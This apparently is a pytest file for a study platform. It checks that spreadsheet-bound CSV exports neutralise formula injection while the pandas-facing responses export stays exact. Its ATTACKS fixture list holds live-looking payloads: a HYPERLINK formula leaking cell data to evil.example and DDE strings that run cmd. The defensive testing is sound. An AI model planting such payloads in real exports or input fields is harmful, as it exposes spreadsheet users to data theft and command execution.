"""CSV formula injection: text cells that a spreadsheet would run are neutralised in the files meant
for spreadsheets (participants.csv, payments.csv), while responses.csv stays exactly what pandas and
R must read back."""
from __future__ import annotations

import csv
import io

import pandas as pd
from sqlalchemy import select

from study.db import db
from study.export import Selection, csv_chunks, export_all
from study.models import ParticipantSession, Study
from study.payments import COLUMNS as PAYMENT_COLUMNS, payment_rows
from studyhelp import make_app, stimset  # noqa: F401  (fixtures)

ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1"]


def test_formula_cells_are_neutralised_in_participants_and_payments(make_app, tmp_path):
    app = make_app()
    with app.app_context():
        study = db.session.scalar(select(Study))
        for i, attack in enumerate(ATTACKS):
            db.session.add(ParticipantSession(
                public_id=f"s{i:031d}", study=study, participant_hash=f"h{i}", panel="link", panel_ids={"participant": attack},
                state="completed", catch_failed=0, user_agent=attack, completed_at=pd.Timestamp("2026-12-01").to_pydatetime(),
                completion_code="C0DE"))
        db.session.commit()
        export_all(tmp_path, Selection())
        payments = "".join(csv_chunks(PAYMENT_COLUMNS, payment_rows(study)))
    sessions = list(csv.DictReader((tmp_path / "participants.csv").open(newline="")))
    written = sorted("'" + a.replace("\r", "\n") for a in ATTACKS)  # a CR inside a cell is written as a (quoted) LF
    assert len(sessions) == len(ATTACKS) and sorted(r["user_agent"] for r in sessions) == written
    paid = list(csv.DictReader(io.StringIO(payments, newline="")))
    assert len(paid) == len(ATTACKS) and sorted(r["panel_participant_id"] for r in paid) == written
    for row in sessions + paid:  # nothing a spreadsheet would evaluate
        assert not [cell for cell in row.values() if cell and cell.startswith(("=", "+", "-", "@", "\t", "\r"))], row
    dictionary = {r["column"]: r["type"] for r in csv.DictReader((tmp_path / "data_dictionary.csv").open(newline=""))
                  if r["file"] == "responses.csv"}
    assert dictionary["condition"] == "one of: normal, gradreg, clean"  # the study's declared design, for the analysis
    assert all(float(r["total"]) == float(r["base"]) + float(r["bonus"]) for r in paid)  # numbers stay numbers


def test_the_tidy_responses_export_round_trips_exactly(make_app, tmp_path):
    rows = [["s1", -1.5, "=not-a-formula-here", None]]
    text = "".join(csv_chunks(["id", "x", "label", "empty"], rows, convert=False))  # how responses.csv is written
    back = pd.read_csv(io.StringIO(text))
    assert back.loc[0, "x"] == -1.5 and back.loc[0, "label"] == "=not-a-formula-here" and pd.isna(back.loc[0, "empty"])
    safe = "".join(csv_chunks(["id", "x", "label"], [["s1", -1.5, "-1.5"]]))  # spreadsheet files: text only
    assert safe.splitlines()[1] == "s1,-1.5,'-1.5"
